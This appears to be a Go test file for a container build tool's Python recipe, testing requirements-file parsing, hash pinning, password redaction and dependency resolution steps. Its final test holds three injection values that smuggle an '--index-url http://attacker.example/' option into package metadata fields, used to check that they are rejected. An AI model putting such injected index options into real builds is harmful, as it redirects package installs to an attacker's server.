package recipes

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/imagebuild/imagebuild/graph"
	"github.com/moby/buildkit/solver/pb"
)

func TestParseRequirements(t *testing.T) {
	a, b := strings.Repeat("ab", 32), strings.Repeat("CD", 32)
	tests := []struct {
		name    string
		file    string
		want    Requirements
		wantErr string
	}{
		{name: "empty", file: "# nothing\n\n", want: Requirements{Locked: true}},
		{name: "pip-compile --generate-hashes", file: "#\n# generated\n#\n--index-url https://pypi.example.com/simple\n\n" +
			"hiredis==2.3.2 \\\n    --hash=sha256:" + a + "\n    # via -r requirements.in\n" +
			"Async_PG[extra]==0.30.0 ; python_version >= \"3.8\" \\\n    --hash=sha256:" + a + " \\\n    --hash=sha256:" + b + "\n",
			want: Requirements{Locked: true, Options: []string{"--index-url https://pypi.example.com/simple"}, Distributions: []Distribution{
				{Name: "Async_PG", Version: "0.30.0", Hashes: []string{a, strings.ToLower(b)}, Marker: `python_version >= "3.8"`},
				{Name: "hiredis", Version: "2.3.2", Hashes: []string{a}},
			}}},
		{name: "no hashes", file: "hiredis==2.3.2\n", want: Requirements{PinnedOnly: true}},
		{name: "one without hashes", file: "hiredis==2.3.2 --hash=sha256:" + a + "\nasyncpg==0.30.0\n", wantErr: "line 1 gives a --hash, which has pip check every requirement's hashes: line 2 (asyncpg==0.30.0) is not pinned with == and hashed"},
		{name: "pinned with extras", file: "asyncpg[gssauth]==0.30.0\n", want: Requirements{}},
		{name: "a range", file: "hiredis>=2\n", want: Requirements{}},
		{name: "a range with a hash", file: "hiredis>=2 --hash=sha256:" + a + "\n", wantErr: "line 1 (hiredis>=2) is not pinned"},
		{name: "a name alone", file: "flask\n", want: Requirements{}},
		{name: "included file", file: "-r base.txt\nhiredis==2.3.2\n", want: Requirements{}},
		{name: "included file with hashes", file: "-r base.txt\nhiredis==2.3.2 --hash=sha256:" + a + "\n", wantErr: "line 1 (-r base.txt) is not pinned"},
		{name: "md5 hash", file: "hiredis==2.3.2 --hash=md5:" + a[:32] + "\n", wantErr: "line 1: --hash=md5:" + a[:32] + " is not sha256:<64 hex digits>"},
		{name: "named twice", file: "hiredis==2.3.2 --hash=sha256:" + a + "\nHiredis==2.3.1 --hash=sha256:" + a + "\n", want: Requirements{}},
		{name: "options kept unlocked", file: "--extra-index-url=https://extra.example.com/simple\n--pre\nflask\n",
			want: Requirements{Options: []string{"--extra-index-url https://extra.example.com/simple", "--pre"}}},
		{name: "local projects, locked", file: "./native\nhiredis==2.3.2 --hash=sha256:" + a + "\n./libs//b/\n./native/\n",
			want: Requirements{Locked: true, Projects: []string{"libs/b", "native"}, Distributions: []Distribution{{Name: "hiredis", Version: "2.3.2", Hashes: []string{a}}}}},
		{name: "a local project, unlocked", file: "./native\nflask\n", want: Requirements{Projects: []string{"native"}}},
		{name: "a project above the file", file: "../shared\n", wantErr: "line 1: ../shared: a local project is a folder under the requirements file's"},
		{name: "a project with options", file: "./native --config-settings=x=y\n", wantErr: "written alone as ./PATH"},
		{name: "an option without its value", file: "--index-url\n", wantErr: "line 1: --index-url needs a value"},
		{name: "an option with an empty value", file: "--trusted-host=\nflask\n", wantErr: "line 1: --trusted-host needs a value"},
		{name: "index with a password", file: "--index-url https://ci:s3cr3t@pypi.example.com/simple\nflask\n",
			wantErr: "line 1: --index-url https://ci:xxxxx@pypi.example.com/simple holds a password"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ParseRequirements([]byte(tt.file))
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) || strings.Contains(err.Error(), "s3cr3t") {
					t.Fatalf("ParseRequirements = %v, want an error with %q and no password", err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, got, cmpopts.IgnoreFields(Requirements{}, "Pinned")); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// TestPinnedRequirements: a file that is not locked gives the requirements
// pinned to one version, with or without hashes, with their markers.
func TestPinnedRequirements(t *testing.T) {
	a := strings.Repeat("ab", 32)
	got, err := ParseRequirements([]byte("flask\nhiredis==2.3.2 ; python_version >= \"3.8\"\nasyncpg[gssauth]==0.30.0\nnumpy>=2\n"))
	if err != nil {
		t.Fatal(err)
	}
	want := []Distribution{{Name: "asyncpg", Version: "0.30.0"}, {Name: "hiredis", Version: "2.3.2", Marker: `python_version >= "3.8"`}}
	if got.Locked || !cmp.Equal(want, got.Pinned) {
		t.Errorf("Pinned = %+v (locked %v), want %+v", got.Pinned, got.Locked, want)
	}
	if locked, _ := ParseRequirements([]byte("hiredis==2.3.2 --hash=sha256:" + a + "\n")); len(locked.Pinned) != 0 {
		t.Errorf("a locked file has Pinned %+v; its Distributions are the set", locked.Pinned)
	}
}

func TestDistributionKey(t *testing.T) {
	for in, want := range map[string]string{"Async_PG": "async-pg", "zope.interface": "zope-interface", "a--b__c": "a-b-c"} {
		if got := (Distribution{Name: in}).Key(); got != want {
			t.Errorf("Key(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestLockedGraph: a locked requirements file gives the whole graph when
// the recipe is asked for it, no resolve step, and a wheel step per
// distribution with every hash the file gives it.
func TestLockedGraph(t *testing.T) {
	a, b := strings.Repeat("ab", 32), strings.Repeat("cd", 32)
	ctx := contextWith(t, "requirements.txt", "hiredis==2.3.2 --hash=sha256:"+a+"\nasyncpg==0.30.0 --hash=sha256:"+a+" --hash=sha256:"+b+"\n")
	img, err := PythonSlim{}.Image(Inputs{Platform: amd64, Context: ctx})
	if err != nil {
		t.Fatal(err)
	}
	if img.Expand != nil {
		t.Fatal("a locked requirements file is resolved in the build")
	}
	_, ops, _ := marshal(t, img)
	for _, e := range execs(ops) {
		if slices.Contains(e.Meta.Args, "resolve") {
			t.Errorf("a resolve step %q in a locked graph", e.Meta.Args)
		}
	}
	checkDistributionSteps(t, ops, []Distribution{
		{Name: "asyncpg", Version: "0.30.0", Hashes: []string{a, b}},
		{Name: "hiredis", Version: "2.3.2", Hashes: []string{a}},
	})
}

// TestRequirementsWithAPassword: the recipe refuses, naming its field, a
// requirements file whose index option would put a password in the graph.
func TestRequirementsWithAPassword(t *testing.T) {
	ctx := contextWith(t, "requirements.txt", "--extra-index-url https://ci:tok@example.com/simple\nflask\n")
	_, err := PythonAlpine{}.Image(Inputs{Platform: amd64, Context: ctx})
	if err == nil || !strings.HasPrefix(err.Error(), "Requirements: requirements.txt: line 1: --extra-index-url") || strings.Contains(err.Error(), "tok@") {
		t.Errorf("Image = %v, want a Requirements error naming the line, without the password", err)
	}
}

// contextWith is a build context holding one file.
func contextWith(t *testing.T, name, content string) graph.Context {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	ctx, err := graph.LoadContext(dir)
	if err != nil {
		t.Fatal(err)
	}
	return ctx
}

// TestPinnedFetchedAhead: in a requirements file that is not locked, what
// is pinned to one version gets a step ahead of the resolve step, keyed by
// its name and version; the graph takes that step where the file it
// fetched is the one the resolve step chose, else the distribution's own.
func TestPinnedFetchedAhead(t *testing.T) {
	ctx := contextWith(t, "requirements.txt", "asyncpg==0.30.0\nhiredis==2.3.2\nflask\n")
	img, err := PythonSlim{}.Image(Inputs{Platform: amd64, Context: ctx})
	if err != nil {
		t.Fatal(err)
	}
	x := img.Expand
	if x == nil || len(x.Ahead) != 2 {
		t.Fatalf("want a resolve step and two steps ahead of it, got %+v", x)
	}
	asyncpg := testDists[0]
	record := func(sha string) []byte { return []byte(`{"sha256": "` + sha + `"}`) }
	// asyncpg's step ahead fetched the file resolved; hiredis's another.
	root, err := x.Root(map[string][]byte{"/" + lockFileName: lockJSON(t, testDists)},
		[][]byte{record(asyncpg.Hashes[0]), record(strings.Repeat("ff", 32))})
	if err != nil {
		t.Fatal(err)
	}
	img.Root, img.Expand = root.Root, nil
	_, ops, _ := marshal(t, img)
	var aheadOf, ownOf []string
	for _, e := range execs(ops) {
		args := e.Meta.Args
		if len(args) < 5 || args[2] != "install" {
			continue
		}
		switch {
		case args[len(args)-1] == aheadFile && !strings.Contains(args[3], "--hash"):
			aheadOf = append(aheadOf, args[4])
		case strings.Contains(args[3], "--hash=sha256:"):
			ownOf = append(ownOf, args[4])
		}
	}
	if !slices.Equal(aheadOf, []string{"asyncpg==0.30.0"}) || !slices.Equal(ownOf, []string{"hiredis==2.3.2"}) {
		t.Errorf("the image's graph installs %v from steps ahead and %v from their own steps; want asyncpg ahead (its file is the one resolved) and hiredis on its own (another file was)", aheadOf, ownOf)
	}
}

// TestPinnedOnlyResolvedWhenOpen: a file that pins every requirement is
// not resolved when the steps ahead find each dependency among the pins, at
// a version that meets it; it is when one is missing, or not met, or a step
// fetched nothing.
func TestPinnedOnlyResolvedWhenOpen(t *testing.T) {
	ctx := contextWith(t, "requirements.txt", "asyncpg==0.30.0\nasync-timeout==4.0.3\n")
	img, err := PythonSlim{}.Image(Inputs{Platform: amd64, Context: ctx})
	if err != nil {
		t.Fatal(err)
	}
	x := img.Expand
	if x == nil || !x.Later || len(x.Ahead) != 2 {
		t.Fatalf("want a resolve step held back behind two steps ahead, got %+v", x)
	}
	a, b := strings.Repeat("a1", 32), strings.Repeat("b2", 32)
	rec := func(sha, requires string) []byte {
		return []byte(`{"sha256": "` + sha + `", "requires": [` + requires + `]}`)
	}
	// Ahead's order is the pins' (by name): async-timeout, asyncpg.
	for _, tt := range []struct {
		name    string
		records [][]byte
		closed  bool
	}{
		{"closed", [][]byte{rec(a, ""), rec(b, `{"name": "async_timeout", "specifier": ">=4.0.3", "extras": []}`)}, true},
		{"a version not met", [][]byte{rec(a, ""), rec(b, `{"name": "async-timeout", "specifier": ">=5", "extras": []}`)}, false},
		{"a dependency not pinned", [][]byte{rec(a, `{"name": "typing-extensions", "specifier": "", "extras": []}`), rec(b, "")}, false},
		{"a step fetched nothing", [][]byte{nil, rec(b, "")}, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			root, err := x.Root(nil, tt.records)
			if !tt.closed {
				if !errors.Is(err, graph.ErrNeedStep) {
					t.Fatalf("Root without the resolve step = %v, want ErrNeedStep", err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			img.Root, img.Expand = root.Root, nil
			_, ops, _ := marshal(t, img)
			for _, e := range execs(ops) {
				if slices.Contains(e.Meta.Args, "resolve") {
					t.Errorf("a resolve step %q in the graph of closed pins", e.Meta.Args)
				}
			}
		})
	}
}

// TestPinnedOnlyResolvesWhatThePinsLeaveOut: where the steps ahead of a
// file that pins every requirement find a dependency the pins leave out,
// the build resolves that dependency alone, the pins its constraints, not
// the whole file (whose sdists' metadata pip would prepare again); the
// image then has the pins from their steps ahead and the rest from steps
// of their own. A dependency the pins name in a way the step does not
// read (an index's metadata may hold anything) is left to a resolve of the
// whole file.
func TestPinnedOnlyResolvesWhatThePinsLeaveOut(t *testing.T) {
	ctx := contextWith(t, "requirements.txt", "hiredis==2.3.2\nimagebuild-edit-top==1.0\n")
	img, err := PythonSlim{}.Image(Inputs{Platform: amd64, Context: ctx})
	if err != nil {
		t.Fatal(err)
	}
	x := img.Expand
	if x == nil || !x.Later || x.Narrow == nil || len(x.Ahead) != 2 {
		t.Fatalf("want a resolve step held back behind two steps ahead, and a narrower one, got %+v", x)
	}
	h, top := strings.Repeat("b2", 32), strings.Repeat("c3", 32)
	rec := func(sha, requires string) []byte {
		return []byte(`{"sha256": "` + sha + `", "requires": [` + requires + `]}`)
	}
	records := [][]byte{rec(h, ""), rec(top, `{"name": "imagebuild-edit-ext", "specifier": "==1.0", "extras": []}, {"name": "hiredis", "specifier": ">=2", "extras": []}`)}
	if _, err := x.Root(nil, records); !errors.Is(err, graph.ErrNeedStep) {
		t.Fatalf("Root without a resolve = %v, want ErrNeedStep", err)
	}
	n, ok := x.Narrow(records)
	if !ok {
		t.Fatal("Narrow gave no step for a dependency the pins leave out")
	}
	if len(n.Ahead) != 1 || n.Ahead[0].File != aheadFile {
		t.Fatalf("Narrow gave %d steps ahead of its own, want one (the dependency's)", len(n.Ahead))
	}
	narrow := img
	narrow.Root, narrow.Expand = n.Step, nil
	_, ops, _ := marshal(t, narrow)
	files := map[string]string{}
	for _, o := range ops {
		if f, ok := o.Op.(*pb.Op_File); ok {
			for _, a := range f.File.Actions {
				if mk := a.GetMkfile(); mk != nil {
					files[mk.Path] = string(mk.Data)
				}
			}
		}
	}
	var resolves int
	for _, e := range execs(ops) {
		if slices.Contains(e.Meta.Args, "resolve") {
			resolves++
		}
	}
	if resolves != 1 || files["/requirements.txt"] != "-c constraints.txt\nimagebuild-edit-ext==1.0\n" ||
		files["/constraints.txt"] != "hiredis==2.3.2\nimagebuild-edit-top==1.0\n" {
		t.Errorf("the narrower step: %d resolve steps, files %q; want one resolving imagebuild-edit-ext==1.0 alone with the pins as constraints", resolves, files)
	}

	// Its output: the dependency and its own, and a pin (pip reached it
	// through them), which the image takes from its step ahead.
	ext, a := strings.Repeat("d4", 32), strings.Repeat("e5", 32)
	out := lockJSON(t, []Distribution{
		{Name: "hiredis", Version: "2.3.2", Hashes: []string{h}},
		{Name: "imagebuild-edit-a", Version: "1.0", Hashes: []string{a}},
		{Name: "imagebuild-edit-ext", Version: "1.0", Hashes: []string{ext}},
	})
	root, err := x.Root(map[string][]byte{"/" + lockFileName: out}, records)
	if err != nil {
		t.Fatal(err)
	}
	img.Root, img.Expand = root.Root, nil
	_, ops, _ = marshal(t, img)
	var aheadOf, ownOf []string
	for _, e := range execs(ops) {
		args := e.Meta.Args
		if len(args) < 5 || args[2] != "install" {
			continue
		}
		if args[len(args)-1] == aheadFile {
			aheadOf = append(aheadOf, args[4])
		} else {
			ownOf = append(ownOf, args[4])
		}
	}
	slices.Sort(aheadOf)
	slices.Sort(ownOf)
	if !slices.Equal(aheadOf, []string{"hiredis==2.3.2", "imagebuild-edit-top==1.0"}) || !slices.Equal(ownOf, []string{"imagebuild-edit-a==1.0", "imagebuild-edit-ext==1.0"}) {
		t.Errorf("the image installs %v from steps ahead and %v from their own; want the pins ahead, the rest on their own", aheadOf, ownOf)
	}

	// The dependency's step ahead fetched the file resolved: the image
	// takes it; one that fetched another release is passed over.
	for _, tt := range []struct {
		version, sha string
		ahead        bool
	}{{"1.0", ext, true}, {"1.1", strings.Repeat("f6", 32), false}} {
		more := append(slices.Clone(records), []byte(`{"sha256": "`+tt.sha+`", "version": "`+tt.version+`", "requires": []}`))
		root, err := x.Root(map[string][]byte{"/" + lockFileName: out}, more)
		if err != nil {
			t.Fatal(err)
		}
		img.Root, img.Expand = root.Root, nil
		_, ops, _ = marshal(t, img)
		var extAhead, extOwn bool
		for _, e := range execs(ops) {
			args := e.Meta.Args
			if len(args) < 5 || args[2] != "install" || !strings.HasPrefix(args[4], "imagebuild-edit-ext") {
				continue
			}
			if args[len(args)-1] == aheadFile {
				extAhead = true
			} else {
				extOwn = true
			}
		}
		if extAhead != tt.ahead || extOwn == tt.ahead {
			t.Errorf("the step ahead fetched %s %s: the image takes it %v, the own step %v; want the step ahead %v", tt.version, tt.sha[:4], extAhead, extOwn, tt.ahead)
		}
	}

	for _, hostile := range []string{
		`{"name": "x --index-url http://attacker.example/", "specifier": "", "extras": []}`,
		`{"name": "x", "specifier": ">=1 --extra-index-url=http://attacker.example/", "extras": []}`,
		`{"name": "x", "specifier": "", "extras": ["a]\n--index-url http://attacker.example/ #"]}`,
	} {
		if _, ok := x.Narrow([][]byte{rec(h, ""), rec(top, hostile)}); ok {
			t.Errorf("Narrow wrote a requirements file of the dependency %s", hostile)
		}
	}
}
